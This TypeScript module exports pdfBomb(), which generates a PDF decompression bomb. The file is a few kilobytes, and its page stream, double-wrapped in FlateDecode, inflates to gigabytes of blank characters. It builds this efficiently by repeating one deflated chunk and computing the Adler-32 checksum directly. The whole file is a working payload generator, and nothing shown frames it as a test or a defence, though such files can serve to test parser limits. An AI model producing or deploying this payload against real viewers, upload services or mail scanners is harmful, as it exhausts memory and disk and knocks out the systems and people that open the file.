import { constants, deflateRawSync, deflateSync } from 'node:zlib';

const PIECE = 64 * 1024 * 1024;
const MODULUS = 65_521n;

/** Blanks as a stream of zlib, made without writing them all: one deflated piece is repeated. */
function deflatedBlanks(bytes: number): Buffer {
  const piece = deflateRawSync(Buffer.alloc(PIECE, ' '), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const count = BigInt(bytes);
  const low = (1n + 32n * count) % MODULUS;
  const high = (count + (32n * count * (count + 1n)) / 2n) % MODULUS;
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(Number((high << 16n) | low));
  const pieces = Array.from({ length: bytes / PIECE }, () => piece);
  return Buffer.concat([Buffer.from([0x78, 0xda]), ...pieces, Buffer.from([0x03, 0x00]), checksum]);
}

/** A PDF of some kilobytes whose page unpacks, through two filters, to so many gigabytes of blanks. */
export function pdfBomb(gigabytes = 8): Buffer {
  const packed = deflateSync(deflatedBlanks(gigabytes * 1024 ** 3), { level: 9 });
  const objects = [
    Buffer.from('<< /Type /Catalog /Pages 2 0 R >>'),
    Buffer.from('<< /Type /Pages /Kids [3 0 R] /Count 1 >>'),
    Buffer.from('<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R >>'),
    Buffer.concat([
      Buffer.from(`<< /Length ${packed.length} /Filter [/FlateDecode /FlateDecode] >>\nstream\n`),
      packed,
      Buffer.from('\nendstream'),
    ]),
  ];
  const numbered = objects.flatMap((object, at) => [
    Buffer.from(`${at + 1} 0 obj\n`),
    object,
    Buffer.from('\nendobj\n'),
  ]);
  return Buffer.concat([Buffer.from('%PDF-1.4\n'), ...numbered, Buffer.from('trailer << /Root 1 0 R >>\n%%EOF')]);
}
